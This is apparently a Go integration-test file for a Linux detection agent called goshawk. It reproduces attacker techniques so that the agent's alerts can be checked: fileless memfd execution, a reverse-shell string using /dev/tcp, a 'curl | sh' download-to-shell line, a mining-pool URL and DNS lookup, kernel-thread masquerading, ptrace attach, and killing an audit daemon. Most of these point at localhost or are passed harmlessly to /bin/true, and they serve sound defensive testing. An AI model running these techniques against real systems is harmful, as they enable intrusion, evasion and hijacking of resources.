package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// alertRow is what the tests read of an alert.
type alertRow struct {
	Kind, Level, Summary string
	RuleID               string `json:"rule_id"`
	RuleName             string `json:"rule_name"`
	Tags                 []string
	PID, PPID            int
	Path                 string
	Evidence             []struct {
		Kind, Table string
		EID         int64
		ProcessID   string `json:"process_id"`
	}
}

// alerts reads the alerts printed so far as JSON.
func (l *live) alerts() []alertRow {
	l.t.Helper()
	data, err := os.ReadFile(l.out)
	if err != nil {
		l.t.Fatal(err)
	}
	var all []alertRow
	for line := range bytes.Lines(data) {
		if !bytes.HasSuffix(line, []byte("\n")) || !bytes.Contains(line, []byte(`"kind":"alert"`)) {
			continue
		}
		var r alertRow
		if err := json.Unmarshal(line, &r); err != nil {
			l.t.Fatalf("%v in %s", err, line)
		}
		all = append(all, r)
	}
	return all
}

// await waits for an alert that is as match says.
func (l *live) await(what string, match func(alertRow) bool) (found alertRow) {
	l.t.Helper()
	for end := time.Now().Add(time.Minute); ; time.Sleep(50 * time.Millisecond) {
		for _, r := range l.alerts() {
			if match(r) {
				return r
			}
		}
		if time.Now().After(end) {
			l.t.Errorf("%s: no alert within a minute", what)
			return found
		}
	}
}

// copyOf copies a program to a new name, for everybody to execute.
func copyOf(t *testing.T, program, to string) string {
	t.Helper()
	data, err := os.ReadFile(program)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, 0o755); err != nil {
		t.Fatal(err)
	}
	return to
}

// openDir makes a directory in parent that every user may look into.
func openDir(t *testing.T, parent string) string {
	t.Helper()
	dir, err := os.MkdirTemp(parent, "goshawk-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// runPID runs a program to its end, whatever that is, and returns its pid.
func runPID(t *testing.T, cmd *exec.Cmd) int {
	t.Helper()
	out, err := cmd.CombinedOutput()
	if cmd.Process == nil {
		t.Fatalf("%v: %v", cmd.Args, err)
	}
	if err != nil {
		t.Logf("%v: %v: %.200s", cmd.Args, err, out)
	}
	return cmd.Process.Pid
}

// fromFile runs what an open file holds, with no name to it.
func fromFile(t *testing.T, f *os.File) int {
	t.Helper()
	cmd := exec.Command("/proc/self/fd/3", "argument")
	cmd.ExtraFiles = []*os.File{f}
	return runPID(t, cmd)
}

// listenHere is what the test program does under the name nc: wait for a connection.
func listenHere() {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		os.Exit(1)
	}
	l.Close()
}

// loadProgram loads a BPF program that does nothing, and lets it go.
func loadProgram(t *testing.T) {
	t.Helper()
	insns := [2]uint64{0xb7, 0x95} // r0 = 0; exit
	licence := [4]byte{'G', 'P', 'L'}
	attr := struct {
		kind, count    uint32
		insns, licence *byte
		rest           [12]uint64
	}{kind: 1, count: 2, insns: (*byte)(unsafe.Pointer(&insns[0])), licence: &licence[0]}
	fd, _, e := unix.Syscall(unix.SYS_BPF, 5, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	for e == unix.EAGAIN { // a signal of Go's came while the verifier was at work
		fd, _, e = unix.Syscall(unix.SYS_BPF, 5, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	}
	if e != 0 {
		t.Fatal(e)
	}
	unix.Close(int(fd))
}

// TestLiveRules does what the rules of processes and connections find, and waits for the
// alert of each.
func TestLiveRules(t *testing.T) {
	needRoot(t)
	root := t.TempDir()
	l := startRun(t, root, "--format", "json", "--kinds", "alert", "--rules", "builtin")
	tmp := openDir(t, "/tmp")
	sh, err := filepath.EvalSymlinks("/bin/sh")
	if err != nil {
		t.Fatal(err)
	}
	loader := map[string]string{"amd64": "/lib64/ld-linux-x86-64.so.2", "arm64": "/lib/ld-linux-aarch64.so.1"}[runtime.GOARCH]
	test, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	const any = -1 // whoever did it
	for _, tt := range []struct {
		rule string
		do   func(t *testing.T) (pid int)
	}{
		{"Program executed from memory", func(t *testing.T) int {
			fd, err := unix.MemfdCreate("x", unix.MFD_CLOEXEC)
			if err != nil {
				t.Fatal(err)
			}
			f := os.NewFile(uintptr(fd), "memfd")
			defer f.Close()
			data, err := os.ReadFile("/bin/true")
			if err != nil {
				t.Fatal(err)
			}
			if _, err := f.Write(data); err != nil {
				t.Fatal(err)
			}
			// A file open for writing cannot be executed.
			ro, err := os.Open(fmt.Sprintf("/proc/self/fd/%d", fd))
			if err != nil {
				t.Fatal(err)
			}
			defer ro.Close()
			f.Close()
			return fromFile(t, ro)
		}},
		{"Program executed after its file was deleted", func(t *testing.T) int {
			name := copyOf(t, "/bin/true", filepath.Join(tmp, "gone"))
			f, err := os.Open(name)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if err := os.Remove(name); err != nil {
				t.Fatal(err)
			}
			return fromFile(t, f)
		}},
		{"Program started through the dynamic loader", func(t *testing.T) int { return runPID(t, exec.Command(loader, "/bin/true", "argument")) }},
		{"Shell started by a server", func(t *testing.T) int {
			server := copyOf(t, sh, filepath.Join(tmp, "nginx"))
			runPID(t, exec.Command(server, "-c", sh+" -c :; true"))
			return any
		}},
		{"Shell with a connection for its input", func(t *testing.T) int { return runPID(t, exec.Command("/bin/true", "sh -i >& /dev/tcp/127.0.0.1/1")) }},
		{"Arguments padded beyond what anybody reads", func(t *testing.T) int {
			args := make([]string, 9)
			for i := range args {
				args[i] = strings.Repeat("A", 120_000) // a MiB together
			}
			return runPID(t, exec.Command("/bin/true", args...))
		}},
		{"Program that calls itself a kernel thread", func(t *testing.T) int {
			cmd := exec.Command("/bin/true")
			cmd.Args = []string{"[kworker/0:1]"}
			return runPID(t, cmd)
		}},
		{"Program started from a directory that everybody may write to", func(t *testing.T) int {
			return runPID(t, exec.Command(copyOf(t, "/bin/true", filepath.Join(openDir(t, "/dev/shm"), "x"))))
		}},
		{"Set-user-ID program outside the system's directories", func(t *testing.T) int {
			name := copyOf(t, "/bin/true", filepath.Join(tmp, "setuid"))
			if err := os.Chmod(name, 0o4755|os.ModeSetuid); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(name)
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
			return runPID(t, cmd)
		}},
		{"Download handed to a shell", func(t *testing.T) int {
			return runPID(t, exec.Command("/bin/true", "curl -s http://127.0.0.1:1/x | sh"))
		}},
		{"Mining of cryptocurrency", func(t *testing.T) int {
			return runPID(t, exec.Command("/bin/true", "-o", "stratum+tcp://127.0.0.1:1"))
		}},
		{"Many looks around at once", func(t *testing.T) int {
			runPID(t, exec.Command(sh, "-c", "id; whoami; uname; arch; nproc; getent passwd root; lscpu; uptime; true"))
			return any
		}},
		{"Connection of a shell itself", func(t *testing.T) int {
			return runPID(t, exec.Command("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/1"))
		}},
		{"Shell or netcat that waits for connections", func(t *testing.T) int {
			exe, err := os.Executable()
			if err != nil {
				t.Fatal(err)
			}
			return runPID(t, exec.Command(copyOf(t, exe, filepath.Join(tmp, "nc"))))
		}},
		{"Name of a mining pool asked for", func(t *testing.T) int {
			b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7, RecursionDesired: true})
			if err := b.StartQuestions(); err != nil {
				t.Fatal(err)
			}
			if err := b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName("eu.xmrpool.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}); err != nil {
				t.Fatal(err)
			}
			packet, err := b.Finish()
			if err != nil {
				t.Fatal(err)
			}
			c, err := net.Dial("udp4", "127.0.0.1:53")
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			if _, err := c.Write(packet); err != nil {
				t.Fatal(err)
			}
			return os.Getpid()
		}},
		{"Process traced by what is no debugger", func(t *testing.T) int {
			target := exec.Command("/bin/sleep", "60")
			if err := target.Start(); err != nil {
				t.Fatal(err)
			}
			defer target.Wait()
			defer target.Process.Kill()
			runtime.LockOSThread()
			defer runtime.UnlockOSThread()
			if err := unix.PtraceAttach(target.Process.Pid); err != nil {
				t.Fatal(err)
			}
			return os.Getpid()
		}},
		{"Security agent ended or stopped", func(t *testing.T) int {
			agent := exec.Command(copyOf(t, "/bin/sleep", filepath.Join(tmp, "auditd")), "60")
			if err := agent.Start(); err != nil {
				t.Fatal(err)
			}
			// Start returns while the exec goes on, before the process is called so.
			for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
				if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", agent.Process.Pid)); string(b) == "auditd\n" {
					break
				}
			}
			agent.Process.Kill()
			agent.Wait()
			return os.Getpid()
		}},
		{"BPF program loaded", func(t *testing.T) int {
			loadProgram(t)
			return os.Getpid()
		}},
		{"Namespace of another process entered", func(t *testing.T) int {
			f, err := os.Open("/proc/self/ns/uts")
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if err := unix.Setns(int(f.Fd()), unix.CLONE_NEWUTS); err != nil {
				t.Fatal(err)
			}
			return os.Getpid()
		}},
		{"Packet socket opened", func(t *testing.T) int {
			fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
			if err == nil {
				unix.Close(fd)
			}
			return os.Getpid()
		}},
		{"Clock set by hand", func(t *testing.T) int {
			never := unix.Timespec{Sec: -1} // which no clock takes
			_, _, _ = unix.Syscall(unix.SYS_CLOCK_SETTIME, unix.CLOCK_REALTIME, uintptr(unsafe.Pointer(&never)), 0)
			return os.Getpid()
		}},
		{"Connection of a program that calls itself a kernel thread", func(t *testing.T) int {
			return runPID(t, exec.Command(copyOf(t, test, filepath.Join(openDir(t, "/tmp"), "masquerade")), "comm"))
		}},
		{"Connection of a program that wrote another's name over its arguments", func(t *testing.T) int {
			return runPID(t, exec.Command(copyOf(t, test, filepath.Join(openDir(t, "/tmp"), "masquerade")), "argv"))
		}},
		{"Memory that is writable and executable at once", func(t *testing.T) int {
			b, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
			if err != nil {
				t.Fatal(err)
			}
			defer unix.Munmap(b)
			return os.Getpid()
		}},
	} {
		t.Run(tt.rule, func(t *testing.T) {
			pid := tt.do(t)
			l.t = t
			a := l.await(tt.rule, func(a alertRow) bool { return a.RuleName == tt.rule && (pid == any || a.PID == pid) })
			if len(a.Evidence) == 0 || a.Evidence[0].EID == 0 || a.RuleID == "" || len(a.Tags) == 0 {
				t.Errorf("the alert is %+v", a)
			}
		})
	}
	l.t = t
	if code, stderr := l.stop(syscall.SIGINT); code != 0 {
		t.Errorf("exit code %d: %s", code, stderr)
	}
	for _, r := range l.rows() {
		if r.Kind != "alert" && r.Kind != "loss" {
			t.Fatalf("a %s event, which was not asked for", r.Kind)
		}
	}
}

// TestLiveRulesFollowed changes rules while the agent runs, and asks for an alert and what
// proved it.
func TestLiveRulesFollowed(t *testing.T) {
	needRoot(t)
	root, dir := t.TempDir(), t.TempDir()
	mark := fmt.Sprintf("mark-%d", os.Getpid())
	write := func(name, title string) {
		t.Helper()
		text := fmt.Sprintf("title: %s\ntags: [attack.t1059]\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: {'CommandLine|endswith': ' %s'}\n  condition: s\n", title, mark)
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("a.yml", "First")
	l := startRun(t, root, "--format", "json", "--kinds", "exec,exit", "--rules", dir)
	pid := runPID(t, exec.Command("/bin/true", mark))
	first := l.await("the first rule", func(a alertRow) bool { return a.RuleName == "First" && a.PID == pid })

	write("a.yml", "Second")
	if err := os.WriteFile(filepath.Join(dir, "bad.yml"), []byte("title: Bad\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	second := false
	for end := time.Now().Add(time.Minute); !second && time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
		runPID(t, exec.Command("/bin/true", mark))
		for _, a := range l.alerts() {
			second = second || a.RuleName == "Second"
		}
	}
	if !second {
		t.Error("the changed rule is not followed within a minute")
	}
	ask := func(sql string) string {
		t.Helper()
		out, err := exec.Command("goshawk", "query", "--root-dir", root, "--format", "json", sql).CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v: %s", sql, err, out)
		}
		return string(out)
	}
	out := ask(fmt.Sprintf("SELECT e.path, e.pid FROM alerts a, json_each(a.evidence) v JOIN exec_events e ON e.eid = json_extract(v.value, '$.eid') WHERE a.rule_name = 'First' AND a.pid = %d", pid))
	if !strings.Contains(out, fmt.Sprintf(`"pid":"%d"`, pid)) || !strings.Contains(out, "true") {
		t.Errorf("the evidence of %+v is %s", first, out)
	}
	if out := ask(fmt.Sprintf("SELECT count(*) AS n FROM alerts WHERE pid = %d", pid)); !strings.Contains(out, `"n":"1"`) {
		t.Errorf("alerts kept: %s", out)
	}
	code, stderr := l.stop(os.Interrupt)
	if code != 0 || !strings.Contains(stderr, "rules: 1 are followed now") || !strings.Contains(stderr, "bad.yml:1: Bad: the document has no detection") {
		t.Errorf("exit code %d: %s", code, stderr)
	}
}

// TestLiveDaemonAlerts has the daemon raise alerts by a rule and by a query that is marked as
// detection, reads their log lines, silences both, kills the daemon, and asks the next one.
func TestLiveDaemonAlerts(t *testing.T) {
	needRoot(t)
	root, dir := t.TempDir(), t.TempDir()
	mark := fmt.Sprintf("mark-%d", os.Getpid())
	rule := fmt.Sprintf("title: Marked\nlogsource: {category: process_creation}\ndetection: {s: {'CommandLine|endswith': ' %s'}, condition: s}\n", mark)
	if err := os.WriteFile(filepath.Join(dir, "a.yml"), []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	configure(t, root, fmt.Sprintf(`{"schedule":{"marked":{"query":"SELECT eid, pid, path, process_id FROM exec_events WHERE args LIKE '%%%s%%'",
		"interval":1,"description":"What the query finds","detection":{"title":"Marked by a query","level":"high","tags":["attack.t1059"]}}}}`, mark))
	log := filepath.Join(root, "var/log/goshawk/osqueryd.results.log")
	start := func() (*exec.Cmd, *said) {
		cmd := exec.Command("goshawk", "daemon", "--root_dir="+root, "--source=ebpf", "--kinds=exec,exit", "--rules="+dir,
			"--schedule_splay_percent=0", "--disable_watchdog")
		err := &said{}
		cmd.Stderr = err
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
		for end := time.Now().Add(time.Minute); !strings.Contains(err.String(), "ready:"); time.Sleep(10 * time.Millisecond) {
			if time.Now().After(end) {
				t.Fatalf("not ready: %s", err)
			}
		}
		return cmd, err
	}
	until := func(what string, holds func() bool) {
		t.Helper()
		for end := time.Now().Add(time.Minute); !holds(); time.Sleep(100 * time.Millisecond) {
			if time.Now().After(end) {
				text, _ := os.ReadFile(log)
				t.Fatalf("%s: not within a minute; the log has\n%s", what, text)
			}
		}
	}
	ask := func(sql string) string {
		out, err := exec.Command("goshawk", "query", "--root-dir", root, "--format", "csv", sql).CombinedOutput()
		if err != nil {
			return fmt.Sprint(err, string(out))
		}
		return strings.TrimSpace(string(out))
	}
	logged := func(with ...string) bool {
		text, _ := os.ReadFile(log)
		for line := range bytes.Lines(text) {
			all := bytes.Contains(line, []byte(`{"name":"goshawk_alerts",`))
			for _, w := range with {
				all = all && bytes.Contains(line, []byte(w))
			}
			if all {
				return true
			}
		}
		return false
	}

	cmd, _ := start()
	pid := runPID(t, exec.Command("/bin/true", mark))
	pair := fmt.Sprintf(`"pid":"%d"`, pid)
	until("line of the rule's alert", func() bool { return logged(pair, `"rule_name":"Marked"`, `"action":"added"`) })
	until("line of the query's alert", func() bool {
		return logged(pair, `"rule_name":"Marked by a query"`, `"rule_id":"query:marked"`, `"level":"high"`, "attack.t1059", `"description":"What the query finds"`)
	})
	for _, id := range []string{"Marked", "Marked by a query"} {
		if got := ask(fmt.Sprintf("SELECT e.pid FROM alerts a, json_each(a.evidence) v JOIN exec_events e ON e.eid = json_extract(v.value, '$.eid') "+
			"WHERE a.rule_name = '%s' AND a.pid = %d", id, pid)); got != fmt.Sprintf("pid\n%d", pid) {
			t.Errorf("the evidence of %s is %q", id, got)
		}
		if got := ask(fmt.Sprintf("SELECT count(*) FROM alerts WHERE rule_name = '%s' AND ancestors LIKE '[{\"pid\":%d,%%'", id, os.Getpid())); got != "count(*)\n1" {
			t.Errorf("alerts of %s with this process above: %q", id, got)
		}
	}

	if out, err := exec.Command("goshawk", "rules", "silence", dir, "--for", "1h").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	until("silence", func() bool {
		runPID(t, exec.Command("/bin/true", mark))
		return ask("SELECT filtered > 0 FROM goshawk_sources WHERE source = 'rules' AND kind = 'alert'") == "filtered > 0\n1"
	})

	cmd.Process.Kill()
	cmd.Wait()
	names, err := filepath.Glob(filepath.Join(dir, "silence-*"))
	if err != nil || len(names) != 1 {
		t.Fatalf("silences are %q: %v", names, err)
	}
	if err := os.Remove(names[0]); err != nil {
		t.Fatal(err)
	}
	killed := fmt.Sprintf("the daemon before this one (pid %d, since ", cmd.Process.Pid)
	next, _ := start()
	until("line of the next daemon's alert", func() bool { return logged(`"rule_id":"goshawk:killed"`, killed) })
	if err := next.Process.Signal(os.Interrupt); err != nil {
		t.Fatal(err)
	}
	next.Wait()
	last, _ := start()
	defer last.Process.Signal(os.Interrupt)
	if got := ask("SELECT count(*) FROM alerts WHERE rule_id = 'goshawk:killed'"); got != "count(*)\n1" {
		t.Errorf("after one that was asked to end: %q", got)
	}
}

// TestLiveDaemonRules has the daemon match rules, and asks it for the alert.
func TestLiveDaemonRules(t *testing.T) {
	needRoot(t)
	root, dir := t.TempDir(), t.TempDir()
	mark := fmt.Sprintf("mark-%d", os.Getpid())
	text := fmt.Sprintf("title: Marked\nlogsource: {category: process_creation}\ndetection: {s: {'CommandLine|endswith': ' %s'}, condition: s}\n", mark)
	if err := os.WriteFile(filepath.Join(dir, "a.yml"), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(root, "osquery.conf")
	if err := os.WriteFile(config, []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("goshawk", "daemon", "--root_dir="+root, "--config_path="+config, "--source=ebpf", "--rules="+dir,
		"--logger_path="+root, "--disable_watchdog")
	said, err := os.Create(filepath.Join(root, "said"))
	if err != nil {
		t.Fatal(err)
	}
	defer said.Close()
	cmd.Stdout, cmd.Stderr = said, said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cmd.Process.Signal(os.Interrupt)
		cmd.Wait()
	}()
	for end := time.Now().Add(time.Minute); ; time.Sleep(200 * time.Millisecond) {
		runPID(t, exec.Command("/bin/true", mark))
		out, err := exec.Command("goshawk", "query", "--root-dir", root, "--format", "json",
			"SELECT path FROM alerts WHERE rule_name = 'Marked'").CombinedOutput()
		if err == nil && strings.Contains(string(out), "true") {
			return
		}
		if time.Now().After(end) {
			text, _ := os.ReadFile(said.Name())
			t.Fatalf("no alert within a minute: %v: %s\n%s", err, out, text)
		}
	}
}
